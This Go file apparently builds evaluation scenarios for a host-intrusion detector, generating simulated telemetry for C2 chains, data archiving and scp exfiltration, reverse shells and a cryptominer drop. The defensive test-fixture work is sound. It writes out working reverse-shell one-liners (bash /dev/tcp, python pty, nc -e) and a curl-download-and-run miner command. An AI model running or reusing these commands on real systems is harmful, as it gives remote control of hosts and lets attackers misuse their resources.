package corpus

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/cairnsec/cairn/cmd/cairn/scenario"
)

// spec defines one scenario: what it is, what it expects, and what it adds
// to the fleet's three days.
type spec struct {
	name, title, description string
	expect                   string
	sources                  []string
	unjudged                 []Unjudged
	// build adds the scenario's hosts, behaviours and scheduled activity
	// to a fresh fleet before it runs.
	build func(g *gen, testdata string) error
}

// Attack infrastructure. The seed's (gs-netcat) comes from cmd/cairn/scenario
// so that scenario a is the seed's chain; the rest is made up but
// public-looking, except where a real capture names it (merlin, nc).
const (
	gsSecret = "ExampleSecretChangeMe"

	revBashIP   = "5.188.86.172"
	revBashPort = 4444
	revPyIP     = "194.87.31.6"
	revPyPort   = 443
	revNcIP     = "92.63.197.153"
	revNcPort   = 9001

	minerDropIP = "80.94.92.106"
	minerPool   = "pool.supportxmr.com"
	minerPoolIP = "141.94.96.71"
	minerPort   = 3333
	minerExe    = "/dev/shm/.x/xmrig"
)

var gsNetcat = withHash(scenario.AttackExecutable, "1.4.43", scenario.AttackHash)

// minerWallet is a made-up Monero-style address (95 characters from 4).
var minerWallet = "4" + strings.Repeat(hashOf("cairn-eval wallet"), 2)[:94]

const sourceTetragon = "cilium/tetragon docs/security-observability-with-ebpf/03_chapter (Apache-2.0), copied to testdata/eval/sources/tetragon; see testdata/eval/SOURCES.md"
const sourceAudit = "elastic/go-libaudit aucoalesce/testdata/ubuntu-20.04.6-linux-5.15.0-1034-gcp.yaml (Apache-2.0), at testdata/audit; see testdata/eval/SOURCES.md"

var specs = []spec{
	{
		name:   "a-gsnetcat-seed",
		title:  "The seed's attack: gs-netcat as root, a hash on the intel feed, C2 by address and by domain",
		expect: ExpectDetect,
		description: `The chain of the bundled scenario (testdata/scenario), on web-03 of the
eval fleet at 14:00 on day 3: an ordinary sshd session for ext-contractor,
whose zsh (known on the bastion, new on web-03) starts /tmp/.x/gs-netcat as
root. Its sha256 is on the scenario feed (testdata/intel). gs-netcat
reaches 45.134.26.117:80 by address, looks up l.gs.thc.org and connects to
193.32.249.56:7350. The control for every scenario built on this chain.`,
		build: func(g *gen, _ string) error {
			h := g.host("web-03")
			g.at(h, at(3, 14, 0, 0, 0)-2400, 1, gsnetcatChain(at(3, 14, 0, 0, 0)))
			return nil
		},
	},
	{
		name:    "b-c2-no-intel",
		title:   "A C2 agent with no intel match: root, a temp build path, a new public IP, an archive, scp to the same IP",
		expect:  ExpectDetect,
		sources: []string{sourceTetragon},
		description: `The Merlin C2 agent chain Tetragon captured (merlin-agent-*.json),
replayed on worker-03 on day 3 at the capture's times of day. After a root
login (an ordinary sshd session), root runs "go run main.go -v -url
https://main.linux-libs.org:443 ..." in /opt/merlin-agent: the agent runs
from /tmp/go-build3518135900/b001/exe/main and first connects to
34.116.205.187:443 (never seen in the fleet) 74 s later. A second build of
the agent archives ../ops_bank_accounts/ with 7z, then copies the archive
with scp, whose ssh connects to 34.116.205.187:22: 51 minutes after the
agent started. Nothing is on a threat feed.`,
		build: merlinScenario,
	},
	{
		name:   "c-toolkit-spread",
		title:  "The same known-malicious toolkit and C2 on a second and a third host, hours apart",
		expect: ExpectDetect,
		description: `The seed's gs-netcat chain on web-02 at 09:00 on day 3, then the same
binary (same sha256, on the scenario feed) copied with scp to worker-04
(12:40) and db-02 (17:20) through root ssh sessions, started there as
root and reaching the same C2 (45.134.26.117:80, l.gs.thc.org,
193.32.249.56:7350). The first host teaches the environment baseline the
binary, the domain and the addresses; the second and third hosts must
still be detected.`,
		build: func(g *gen, _ string) error {
			g.at(g.host("web-02"), at(3, 9, 0, 0, 0)-2400, 1, gsnetcatChain(at(3, 9, 0, 0, 0)))
			g.at(g.host("worker-04"), at(3, 12, 40, 0, 0), 2, spreadChain(at(3, 12, 40, 0, 0)))
			g.at(g.host("db-02"), at(3, 17, 20, 0, 0), 3, spreadChain(at(3, 17, 20, 0, 0)))
			return nil
		},
	},
	{
		name:    "d-reverse-shells",
		title:   "Interpreter reverse shells: bash -i >& /dev/tcp, python -c 'import socket…' with a setuid shell, nc -e",
		expect:  ExpectDetect,
		sources: []string{sourceAudit},
		description: `Three hosts on day 3, each a different reverse shell out of a web or
worker process:
- web-04, 10:12: php-fpm (www-data) runs sh -c "bash -c 'bash -i >&
  /dev/tcp/5.188.86.172/4444 0>&1'"; bash connects to 5.188.86.172:4444,
  becomes bash -i, and runs id and uname -a.
- worker-05, 14:27: the celery worker (app, uid 1005) runs python3 -c
  'import socket,subprocess,os,pty;…s.connect(("194.87.31.6",443))…
  pty.spawn("/bin/sh")'; from that shell, at 14:29:11.525, "dash -p" as
  uid 1005 with effective uid 0 (a setuid shell): a real audit record
  (go-libaudit's ubuntu-20.04.6 fixture, key susp_shell).
- web-06, 16:40: php-fpm (www-data) runs sh -c "nc -e /bin/sh
  92.63.197.153 9001"; the kernel names the executable by its resolved
  path, /usr/bin/nc.traditional (argv[0] is nc); after connecting, nc
  becomes /bin/sh, which runs id.`,
		build: reverseShells,
	},
	{
		name:   "e-cryptominer",
		title:  "A cryptominer dropped in /dev/shm and run by www-data, reaching a mining pool on port 3333",
		expect: ExpectDetect,
		description: `web-07 at 15:10 on day 3: php-fpm (www-data) runs sh -c "curl -fsSL
http://80.94.92.106/.x/xmrig -o /dev/shm/.x/xmrig --create-dirs; chmod +x
…; /dev/shm/.x/xmrig -o pool.supportxmr.com:3333 -u <wallet> -p web07 -k
--donate-level=1 -B". curl fetches the binary from 80.94.92.106:80; xmrig
(a hash on no feed) backgrounds itself, looks up pool.supportxmr.com and
mines on 141.94.96.71:3333.`,
		build: func(g *gen, _ string) error {
			g.at(g.host("web-07"), at(3, 15, 10, 4, 220), 1, cryptominer)
			return nil
		},
	},
	{
		name:   "f-clock-jump",
		title:  "An attacked host whose clock read 2099 once at boot, the day before the attack",
		expect: ExpectDetect,
		description: `web-01 reboots at 04:31 on day 2; its first event after boot (cron's
start) is dated 2099-04-07T04:31 (a bad real-time clock, corrected by NTP
a moment later; every other event has the right time). The line sits in
the file where the receiver sent it. A day later, at 04:40 on day 3, the
seed's gs-netcat chain runs on web-01 and must be detected as on any host.`,
		build: func(g *gen, _ string) error {
			h := g.host("web-01")
			g.at(h, at(2, 4, 31, 0, 0), 1, func(g *gen, h *host, t int64, r *rand.Rand) int64 {
				g.tag = "reboot"
				// 2026 + 73 = 2099: the same time of day, the wrong year.
				return bootSkewed(g, h, t, r, 73)
			})
			g.at(h, at(3, 4, 40, 0, 0)-2400, 2, gsnetcatChain(at(3, 4, 40, 0, 0)))
			return nil
		},
	},
	{
		name:     "g-baseline-poisoning",
		title:    "Three ordinary-looking events mention the C2 address, domain and executable two days ahead of the attack",
		expect:   ExpectDetect,
		unjudged: []Unjudged{{Host: "worker-06", Why: "it sent the poisoning events: an alert on it is neither required nor a false positive"}},
		description: `On day 1 at 15:20, inside the learning period, worker-06 reports three
events that look like ordinary traffic of a process named
/tmp/.x/gs-netcat running as app: a connection to 45.134.26.117:80, a DNS
answer l.gs.thc.org -> 193.32.249.56, a connection to 193.32.249.56:7350
(no process start, so no hash). They put the C2 address, domain and
(executable, address) pairs in the baseline. On day 3 at 14:00 the seed's
gs-netcat chain runs on web-05 and must still be detected.`,
		build: func(g *gen, _ string) error {
			g.at(g.host("worker-06"), at(1, 15, 20, 10, 0), 1, func(g *gen, h *host, t int64, r *rand.Rand) int64 {
				g.tag = "poison"
				p := proc{pid: h.pid(), exe: scenario.AttackExecutable, usr: uApp}
				g.connect(h, t, p, scenario.AttackBeaconIP, scenario.AttackBeaconPort, "", false, r)
				g.dns(h, t+250, scenario.AttackDomain, r, scenario.AttackRelayIP)
				g.connect(h, t+262, p, scenario.AttackRelayIP, scenario.AttackRelayPort, scenario.AttackDomain, false, r)
				return t + 262
			})
			g.at(g.host("web-05"), at(3, 14, 0, 0, 0)-2400, 2, gsnetcatChain(at(3, 14, 0, 0, 0)))
			return nil
		},
	},
	{
		name:   "h-package-upgrade",
		title:  "A fleet-wide package upgrade: new curl, openssh and openssl builds on every host",
		expect: ExpectQuiet,
		description: `Between 10:00 and 12:00 on day 3, the deploy user logs in to each of
the 24 hosts and runs sudo apt-get -y upgrade: apt's http method fetches
from the usual Debian mirrors, dpkg unpacks curl, openssh and openssl
updates, the openssh-server postinst restarts ssh (a new sshd build
under PID 1) and ldconfig runs. dpkg, ldconfig and the new builds are new
on every host (and new to the environment on the first one); the
upgraded curl is what cron runs from then on.`,
		build: func(g *gen, _ string) error {
			for _, h := range g.hosts {
				off := int64(h.idx) * (2 * hourMS / 25)
				g.at(h, at(3, 10, 0, 0, 0)+off+int64(h.idx%7)*13_417, uint64(h.idx), upgrade)
			}
			return nil
		},
	},
	{
		name:   "i-backup-burst",
		title:  "A fleet-wide full backup: tar and rsync over ssh to the known off-site backup server",
		expect: ExpectQuiet,
		description: `At 01:05-01:50 on day 3, before a migration, root's cron on every host
runs /usr/local/sbin/full-backup: tar czf of /etc and the role's data
(gzip as tar's child), then rsync of the archive to
backup@backup.offsite.example.net, through ssh to 95.216.88.34:22. The
database hosts push their dumps to that server every night, so the
server, its address and ssh's connection to it are known; tar, gzip,
rsync and ssh are new on every other host. An archive followed by a
transfer out, on 24 hosts in 45 minutes, to a known destination.`,
		build: func(g *gen, _ string) error {
			for _, h := range g.hosts {
				off := int64(h.idx) * (45 * 60_000 / 25)
				g.at(h, at(3, 1, 5, 0, 0)+off+int64(h.idx%5)*7_919, uint64(h.idx), backupBurst)
			}
			return nil
		},
	},
	{
		name:   "j-new-host",
		title:  "A new web host joins on day 2, built from a newer image",
		expect: ExpectQuiet,
		description: `web-08 boots for the first time at 09:30 on day 2 and does what every
web host does. It was built from a newer image: its nginx, php-fpm, curl,
openssh and openssl builds are newer than the fleet's, so their hashes
are new to the environment (whose learning ended on day 1) while the host
itself is learning; everything else it runs and reaches is known.`,
		build: func(g *gen, _ string) error {
			h := g.addHost(roleWeb, 7, 2, 9*hourMS+30*60_000)
			h.dbIP = g.host("db-02").ip
			for _, k := range []string{"nginx", "php-fpm", "curl", "sshd", "ssh", "scp", "openssl"} {
				h.bins[k] = upgradedBinary(k)
			}
			h.tag = "new-host"
			return nil
		},
	},
	{
		name:   "k-ci-fresh-binaries",
		title:  "CI runners that build and run fresh binaries from /tmp all day",
		expect: ExpectQuiet,
		description: `ci-01 to ci-03 run go test and go run all day, on all three days, as the
runner user: every job links new binaries under /tmp/go-build<random>/
(b001/client.test, b002/store.test, b003/api.test, b001/exe/gen), each
with a path and hash never seen before, run by go. The client tests call
api.github.com, a known service, from their fresh binary.`,
		build: func(g *gen, _ string) error {
			for _, h := range g.hosts {
				if h.role == roleCI {
					h.ciFresh = true
				}
			}
			return nil
		},
	},
	{
		name:    "l-nc-lifecycle",
		title:   "A keystore read and nc to a reverse-shell endpoint, from a real Tetragon capture",
		expect:  ExpectDetect,
		sources: []string{sourceTetragon},
		description: `Tetragon's process lifecycle capture (00_process_lifecycle), replayed on
search-02 on day 3 at the capture's times of day: a root bash in
/usr/share/elasticsearch/ (after an ordinary root sshd session) runs sh
lifecycle.sh at 18:01:56, which reads
/usr/share/elasticsearch/config/elasticsearch.keystore with cat and runs
nc raiz3gjkgtfhkkc.not-reverse-shell.com 443; nc connects to
64.225.45.153:443. The DNS answer for that name, which the receiver would
capture, is derived from the command line and the connection.`,
		build: lifecycleScenario,
	},
	{
		name:   "m-fleet-only",
		title:  "The fleet alone: three ordinary days, the control",
		expect: ExpectQuiet,
		description: `The 24 hosts' ordinary activity that every other scenario starts from,
and nothing else. Any alert here is noise of the fleet itself.`,
		build: func(*gen, string) error { return nil },
	},
}

func addYears(ms int64, years int) int64 {
	return timeOf(ms).AddDate(years, 0, 0).UnixMilli()
}

// gsnetcatChain is the seed's attack (cmd/cairn/scenario), zsh at t0: an
// ordinary sshd session 2.4 s before, zsh as ext-contractor, gs-netcat as
// root 40 s later, its beacon, DNS answer and relay connection.
func gsnetcatChain(t0 int64) func(g *gen, h *host, t int64, r *rand.Rand) int64 {
	return func(g *gen, h *host, _ int64, r *rand.Rand) int64 {
		priv := g.start(h, t0-2400, h.daemons["sshd"], h.bin("sshd"), uRoot, "/", "sshd: "+uContractor.name+" [priv]")
		g.tag = "attack"
		zsh := g.start(h, t0, priv, h.bin("zsh"), uContractor, "/home/"+uContractor.name, "-zsh")
		gs := g.start(h, t0+40_000, zsh, gsNetcat, uRoot, "/home/"+uContractor.name,
			scenario.AttackExecutable, "-s", gsSecret, "-l", "-i", "-q")
		g.connect(h, t0+41_000, gs, scenario.AttackBeaconIP, scenario.AttackBeaconPort, "", false, r)
		g.dns(h, t0+41_250, scenario.AttackDomain, r, scenario.AttackRelayIP)
		g.connect(h, t0+41_262, gs, scenario.AttackRelayIP, scenario.AttackRelayPort, scenario.AttackDomain, false, r)
		return t0 + 41_262
	}
}

// spreadChain brings the seed's toolkit to another host: scp into /tmp/.x
// over a root ssh session, then a second session starts it, and it reaches
// the same C2.
func spreadChain(t0 int64) func(g *gen, h *host, t int64, r *rand.Rand) int64 {
	return func(g *gen, h *host, _ int64, r *rand.Rand) int64 {
		s1 := g.start(h, t0, h.daemons["sshd"], h.bin("sshd"), uRoot, "/", "sshd: root@notty")
		g.tag = "attack"
		g.start(h, t0+310, s1, h.bin("scp"), uRoot, "/root", "scp", "-t", "/tmp/.x/")
		g.tag = ""
		s2 := g.start(h, t0+20_000, h.daemons["sshd"], h.bin("sshd"), uRoot, "/", "sshd: root@notty")
		g.tag = "attack"
		cmd := scenario.AttackExecutable + " -s " + gsSecret + " -l -i -q"
		sh := g.start(h, t0+20_300, s2, h.bin("bash"), uRoot, "/root", "bash", "-c", cmd)
		// bash -c with one simple command replaces itself with it.
		gs := g.reexec(h, t0+20_302, sh, s2, gsNetcat, "/root", strings.Fields(cmd)...)
		g.connect(h, t0+21_302, gs, scenario.AttackBeaconIP, scenario.AttackBeaconPort, "", false, r)
		g.dns(h, t0+21_552, scenario.AttackDomain, r, scenario.AttackRelayIP)
		g.connect(h, t0+21_564, gs, scenario.AttackRelayIP, scenario.AttackRelayPort, scenario.AttackDomain, false, r)
		return t0 + 21_564
	}
}

func reverseShells(g *gen, testdata string) error {
	setuid, err := readAuditExec(testdata, "file_mode_preservation")
	if err != nil {
		return err
	}
	// The record is replayed as the app user's setuid shell: it must be
	// uid 1005 (the fleet's app user) with euid 0, as the labels say.
	if setuid.uid != uApp.id || setuid.euid != uRoot.id {
		return fmt.Errorf("audit record: uid %s euid %s, want %s and %s", setuid.uid, setuid.euid, uApp.id, uRoot.id)
	}
	// web-04: bash's /dev/tcp redirection.
	g.at(g.host("web-04"), at(3, 10, 12, 7, 0), 1, func(g *gen, h *host, t int64, r *rand.Rand) int64 {
		g.tag = "attack"
		cwd := "/var/www/html/wp-content/uploads"
		inner := fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", revBashIP, revBashPort)
		sh := g.start(h, t, h.daemons["php-fpm-worker"], h.bin("sh"), uWWW, cwd, "sh", "-c", "bash -c '"+inner+"'")
		t += 4
		b := g.start(h, t, sh, h.bin("bash"), uWWW, cwd, "bash", "-c", inner)
		// The redirection is opened by this bash, which then becomes bash -i.
		t += 2
		g.connect(h, t, b, revBashIP, revBashPort, "", false, r)
		t++
		bi := g.reexec(h, t, b, sh, h.bin("bash"), cwd, "bash", "-i")
		t += 9_500
		g.start(h, t, bi, catalogBinary("id"), uWWW, cwd, "id")
		t += 5_700
		g.start(h, t, bi, catalogBinary("uname"), uWWW, cwd, "uname", "-a")
		return t
	})
	// worker-05: python's socket, pty.spawn, then the setuid shell of the
	// real audit record at its time of day.
	tSetuid := at(3, 0, 0, 0, 0) + setuid.when
	g.at(g.host("worker-05"), tSetuid-76_215, 2, func(g *gen, h *host, t int64, r *rand.Rand) int64 {
		g.tag = "attack"
		code := fmt.Sprintf(`import socket,subprocess,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("%s",%d));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")`, revPyIP, revPyPort)
		sh := g.start(h, t, h.daemons["python3"], h.bin("sh"), uApp, "/opt/app", "/bin/sh", "-c", "python3 -c '"+code+"'")
		t += 5
		py := g.start(h, t, sh, h.bin("python3"), uApp, "/opt/app", "python3", "-c", code)
		t += 41
		g.connect(h, t, py, revPyIP, revPyPort, "", false, r)
		t += 9
		pty := g.start(h, t, py, h.bin("sh"), uApp, "/opt/app", "/bin/sh")
		// The audit record: uid 1005 runs dash -p with euid 0.
		g.startAs(h, tSetuid, pty, &binary{exe: setuid.exe, hash: h.bin("sh").hash}, uApp, uRoot, "/opt/app", setuid.args...)
		return tSetuid
	})
	// web-06: nc -e.
	g.at(g.host("web-06"), at(3, 16, 40, 21, 870), 3, func(g *gen, h *host, t int64, r *rand.Rand) int64 {
		g.tag = "attack"
		cwd := "/var/www/html"
		cmd := fmt.Sprintf("nc -e /bin/sh %s %d", revNcIP, revNcPort)
		sh := g.start(h, t, h.daemons["php-fpm-worker"], h.bin("sh"), uWWW, cwd, "sh", "-c", cmd)
		t += 3
		nc := g.start(h, t, sh, catalogBinary("nc"), uWWW, cwd, strings.Fields(cmd)...)
		t += 38
		g.connect(h, t, nc, revNcIP, revNcPort, "", false, r)
		t += 2
		// nc.traditional's -e replaces nc with the program once connected.
		shell := g.reexec(h, t, nc, sh, h.bin("sh"), cwd, "/bin/sh")
		t += 12_040
		g.start(h, t, shell, catalogBinary("id"), uWWW, cwd, "id")
		return t
	})
	return nil
}

func cryptominer(g *gen, h *host, t int64, r *rand.Rand) int64 {
	g.tag = "attack"
	cwd := "/var/www/html"
	url := "http://" + minerDropIP + "/.x/xmrig"
	minerArgs := []string{minerExe, "-o", fmt.Sprintf("%s:%d", minerPool, minerPort), "-u", minerWallet, "-p", "web07", "-k", "--donate-level=1", "-B"}
	cmd := "curl -fsSL " + url + " -o " + minerExe + " --create-dirs; chmod +x " + minerExe + "; " + strings.Join(minerArgs, " ")
	sh := g.start(h, t, h.daemons["php-fpm-worker"], h.bin("sh"), uWWW, cwd, "sh", "-c", cmd)
	t += 4
	c := g.start(h, t, sh, h.bin("curl"), uWWW, cwd, "curl", "-fsSL", url, "-o", minerExe, "--create-dirs")
	t += 31
	g.connect(h, t, c, minerDropIP, 80, "", false, r)
	t += 2_210
	g.start(h, t, sh, catalogBinary("chmod"), uWWW, cwd, "chmod", "+x", minerExe)
	t += 3
	xmrig := &binary{exe: minerExe, version: "6.22.2", hash: hashOf("cairn-eval xmrig 6.22.2 linux-static-x64")}
	x := g.start(h, t, sh, xmrig, uWWW, cwd, minerArgs...)
	// -B: the miner forks into the background and mines from the child.
	bg := h.fork(x, uWWW)
	t += 180
	g.dns(h, t, minerPool, r, minerPoolIP)
	t += 3
	g.connect(h, t, bg, minerPoolIP, minerPort, minerPool, false, r)
	return t
}

func upgrade(g *gen, h *host, t int64, r *rand.Rand) int64 {
	g.tag = "upgrade"
	shell, t := session(g, h, t, uDeploy, "bash", r)
	t = step(t, r) + 2500
	sudo := g.startAs(h, t, shell, h.bin("sudo"), uDeploy, uRoot, "/home/deploy", "sudo", "apt-get", "-y", "upgrade")
	t = step(t, r)
	apt := g.start(h, t, sudo, h.bin("apt-get"), uRoot, "/home/deploy", "apt-get", "-y", "upgrade")
	t = step(t, r)
	m := g.start(h, t, apt, h.bin("apt-http"), uApt, "/", "/usr/lib/apt/methods/http")
	t = g.reach(h, t, m, svcDebian, h.idx%2, r)
	t = g.reach(h, t, m, svcSecurity, 0, r)
	t += 15_000 + r.Int64N(20_000)
	archives := []string{}
	for _, deb := range []string{"curl_7.88.1-10+deb12u14", "libcurl4_7.88.1-10+deb12u14", "openssh-client_1%3a9.2p1-2+deb12u7",
		"openssh-server_1%3a9.2p1-2+deb12u7", "openssh-sftp-server_1%3a9.2p1-2+deb12u7", "openssl_3.0.17-1~deb12u2", "libssl3_3.0.17-1~deb12u2"} {
		archives = append(archives, "/var/cache/apt/archives/"+deb+"_amd64.deb")
	}
	dpkg := catalogBinary("dpkg")
	g.start(h, t, apt, dpkg, uRoot, "/", append([]string{"/usr/bin/dpkg", "--status-fd", "27", "--no-triggers", "--unpack", "--auto-deconfigure"}, archives...)...)
	t += 6_000 + r.Int64N(6_000)
	cfg := g.start(h, t, apt, dpkg, uRoot, "/", "/usr/bin/dpkg", "--status-fd", "27", "--configure", "--pending")
	t = step(t, r)
	post := g.start(h, t, cfg, h.bin("sh"), uRoot, "/", "/bin/sh", "/var/lib/dpkg/info/openssh-server.postinst", "configure", baseImage["sshd"][1])
	t = step(t, r)
	g.start(h, t, post, h.bin("systemctl"), uRoot, "/", "systemctl", "restart", "ssh.service")
	for _, k := range []string{"curl", "sshd", "ssh", "scp", "openssl"} {
		h.bins[k] = upgradedBinary(k)
	}
	t += 250 + r.Int64N(200)
	h.daemons["sshd"] = g.start(h, t, pid1, h.bin("sshd"), uRoot, "/", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
	t = step(t, r) + 1500
	g.start(h, t, cfg, catalogBinary("ldconfig"), uRoot, "/", "/sbin/ldconfig")
	return t
}

var backupDirs = map[role][]string{
	roleWeb:     {"/etc", "/var/www"},
	roleDB:      {"/etc", "/var/backups/pg"},
	roleWorker:  {"/etc", "/opt/app"},
	roleBastion: {"/etc", "/home"},
	roleCI:      {"/etc", "/opt/actions-runner"},
	roleSearch:  {"/etc", "/etc/elasticsearch"},
}

func backupBurst(g *gen, h *host, t int64, r *rand.Rand) int64 {
	g.tag = "backup"
	sh := cronJob(g, h, t, uRoot, "/root", "/usr/local/sbin/full-backup")
	t = step(t, r)
	script := g.start(h, t, sh, h.bin("sh"), uRoot, "/root", "/bin/sh", "/usr/local/sbin/full-backup")
	t = step(t, r)
	archive := "/var/backups/full-" + h.name + ".tar.gz"
	return backupPush(g, h, t, r, script, archive, append([]string{"--exclude=/var/backups/full-*"}, backupDirs[h.role]...), "full/"+h.name+"/")
}

// capturedBinary returns the hash a captured executable gets: the fleet's
// own build when it is a binary the fleet has (the capture was made on a
// different machine, but the package is the same), else capturedHash.
func capturedBinary(h *host, exe string) *binary {
	switch exe {
	case "/bin/bash", "/usr/bin/bash":
		return &binary{exe: exe, hash: h.bin("bash").hash}
	case "/bin/sh", "/usr/bin/sh", "/usr/bin/dash":
		return &binary{exe: exe, hash: h.bin("sh").hash}
	case "/usr/local/go/bin/go":
		return h.bin("go")
	case "/usr/bin/ssh":
		return h.bin("ssh")
	case "/usr/bin/scp":
		return h.bin("scp")
	case "/usr/bin/7z":
		return catalogBinary("7z")
	case "/usr/bin/cat":
		return catalogBinary("cat")
	}
	return &binary{exe: exe, hash: capturedHash(exe)}
}

// startCaptured emits the start of a captured process with its own pid,
// executable, arguments, working directory and user.
func (g *gen) startCaptured(h *host, t int64, p tetragonProcess, parent proc) proc {
	b := capturedBinary(h, p.Binary)
	u := tetragonUser(p.UID)
	cwd := p.CWD
	if len(cwd) > 1 {
		cwd = strings.TrimSuffix(cwd, "/") // /proc/<pid>/cwd has no trailing slash
	}
	g.emit(&event{real: t, host: h, kind: evStart, pid: p.PID, exe: p.Binary, args: tetragonArgs(p), cwd: cwd, hash: b.hash,
		ppid: parent.pid, pexe: parent.exe, usr: u, eff: u, hasUser: true})
	return proc{pid: p.PID, exe: p.Binary, usr: u}
}

// connectCaptured emits a captured connection with its source port.
func (g *gen) connectCaptured(h *host, t int64, p proc, sport int, dst string, dport int, domain string) {
	g.emit(&event{real: t, host: h, kind: evConn, pid: p.pid, exe: p.exe, usr: p.usr, hasUser: true,
		sport: sport, dst: dst, dport: dport, domain: domain})
}

func execTime(d int, p tetragonProcess) (int64, error) { return onDay(d, p.StartTime) }

func merlinScenario(g *gen, testdata string) error {
	const dir = "03_security_observability_events/"
	files := map[string]string{
		"start": dir + "02_persistance/merlin-agent-go-start.json",
		"conn":  dir + "02_persistance/merlin-agent-go-connect.json",
		"job":   dir + "02_persistance/merlin-agent-job-connect.json",
		"sh7z":  dir + "03_post_exploitation_techniques/merlin-agent-sh.json",
		"7z":    dir + "03_post_exploitation_techniques/merlin-agent-7z.json",
		"shscp": dir + "03_post_exploitation_techniques/merlin-agent-scp-sh.json",
		"scp":   dir + "03_post_exploitation_techniques/merlin-agent-scp.json",
		"ssh":   dir + "03_post_exploitation_techniques/merlin-agent-scp-ssh.json",
		"sshc":  dir + "03_post_exploitation_techniques/merlin-agent-ssh-tunnel-connect.json",
	}
	ev := map[string]*tetragonEvent{}
	for k, f := range files {
		e, err := readTetragon(testdata, f)
		if err != nil {
			return err
		}
		ev[k] = e
	}
	// Every exec and connection of the chain, in order, with its time on
	// day 3. The go process and the second agent build appear only as the
	// parent of captured execs; their starts are made from that record.
	type capStep struct {
		t      int64
		exec   *tetragonProcess
		parent string // key of the parent step; "" for the second build's unknown parent
		conn   *tetragonEvent
		by     string // key of the connecting step
		key    string // this step's key
	}
	goProc, agent2 := ev["start"].Exec.Parent, ev["sh7z"].Exec.Parent
	steps := []capStep{
		{exec: &goProc, parent: "shell", key: "go"},
		{exec: &ev["start"].Exec.Process, parent: "go", key: "agent"},
		{conn: ev["conn"], by: "agent"},
		{conn: ev["job"], by: "agent"},
		{exec: &agent2, key: "agent2"},
		{exec: &ev["sh7z"].Exec.Process, parent: "agent2", key: "sh7z"},
		{exec: &ev["7z"].Exec.Process, parent: "sh7z", key: "7z"},
		{exec: &ev["shscp"].Exec.Process, parent: "agent2", key: "shscp"},
		{exec: &ev["scp"].Exec.Process, parent: "shscp", key: "scp"},
		{exec: &ev["ssh"].Exec.Process, parent: "scp", key: "ssh"},
		{conn: ev["sshc"], by: "ssh"},
	}
	for i := range steps {
		var err error
		if steps[i].exec != nil {
			steps[i].t, err = execTime(3, *steps[i].exec)
		} else {
			if steps[i].conn.Connect == nil {
				return fmt.Errorf("merlin capture: %s is not a connection", steps[i].by)
			}
			steps[i].t, err = onDay(3, steps[i].conn.Time)
		}
		if err != nil {
			return err
		}
	}
	tGo := steps[0].t
	g.at(g.host("worker-03"), tGo-35_000, 1, func(g *gen, h *host, t int64, r *rand.Rand) int64 {
		priv := g.start(h, t, h.daemons["sshd"], h.bin("sshd"), uRoot, "/", "sshd: root [priv]")
		g.tag = "attack"
		// The root shell go was started from is not in the capture.
		procs := map[string]proc{"shell": g.start(h, t+480, priv, h.bin("bash"), uRoot, "/root", "-bash")}
		for _, st := range steps {
			if st.exec != nil {
				// The second build's parent (its go run) is known by pid only.
				parent, ok := procs[st.parent]
				if !ok {
					parent = proc{pid: 40966}
				}
				procs[st.key] = g.startCaptured(h, st.t, *st.exec, parent)
				continue
			}
			c := st.conn.Connect
			g.connectCaptured(h, st.t, procs[st.by], c.SourcePort, c.DestinationIP, c.DestinationPort, "")
		}
		return steps[len(steps)-1].t
	})
	return nil
}

func lifecycleScenario(g *gen, testdata string) error {
	const dir = "00_process_lifecycle/"
	sh, err := readTetragon(testdata, dir+"lifecycle_sh_process_exec.json")
	if err != nil {
		return err
	}
	cat, err := readTetragon(testdata, dir+"cat_process_exec.json")
	if err != nil {
		return err
	}
	nc, err := readTetragon(testdata, dir+"nc_process_exec.json")
	if err != nil {
		return err
	}
	conn, err := readTetragon(testdata, dir+"nc_process_connect.json")
	if err != nil {
		return err
	}
	bash := sh.Exec.Parent
	tBash, err := execTime(3, bash)
	if err != nil {
		return err
	}
	times := map[string]int64{}
	for k, p := range map[string]tetragonProcess{"sh": sh.Exec.Process, "cat": cat.Exec.Process, "nc": nc.Exec.Process} {
		if times[k], err = execTime(3, p); err != nil {
			return err
		}
	}
	tConn, err := onDay(3, conn.Time)
	if err != nil {
		return err
	}
	// nc resolved the name on its command line to the address it connected to.
	args := tetragonArgs(nc.Exec.Process)
	if len(args) < 2 {
		return fmt.Errorf("nc capture: unexpected arguments %q", args)
	}
	domain := args[1]
	g.at(g.host("search-02"), tBash-480, 1, func(g *gen, h *host, t int64, r *rand.Rand) int64 {
		priv := g.start(h, t, h.daemons["sshd"], h.bin("sshd"), uRoot, "/", "sshd: root [priv]")
		g.tag = "attack"
		b := g.startCaptured(h, tBash, bash, priv)
		s := g.startCaptured(h, times["sh"], sh.Exec.Process, b)
		g.startCaptured(h, times["cat"], cat.Exec.Process, s)
		n := g.startCaptured(h, times["nc"], nc.Exec.Process, s)
		c := conn.Connect
		g.dns(h, tConn-3, domain, r, c.DestinationIP)
		g.connectCaptured(h, tConn, n, c.SourcePort, c.DestinationIP, c.DestinationPort, domain)
		return tConn
	})
	return nil
}
